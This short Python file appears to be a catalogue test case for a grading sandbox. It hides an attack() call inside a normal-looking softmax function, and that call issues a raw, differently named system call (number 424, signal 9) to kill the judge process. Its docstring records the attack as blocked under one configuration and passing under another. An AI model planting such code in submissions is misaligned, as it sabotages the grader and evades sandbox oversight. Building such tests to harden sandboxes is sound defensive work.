"""Kill the judge with a system call that has another name.

catalogue  58
strict     error: CALL raised PermissionError: [Errno 1] Operation not permitted...
portable   passed
"""

import ctypes
import os

import numpy as np


def attack():
    libc = ctypes.CDLL(None, use_errno=True)
    if (
        libc.syscall(ctypes.c_long(424 if os.uname().machine == "x86_64" else 424), -1, 9, None, 0) < 0
        and ctypes.get_errno() == 1
    ):
        raise PermissionError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))


def softmax(x):
    attack()
    e = np.exp(x - np.max(x, axis=-1, keepdims=True))
    return e / np.sum(e, axis=-1, keepdims=True)
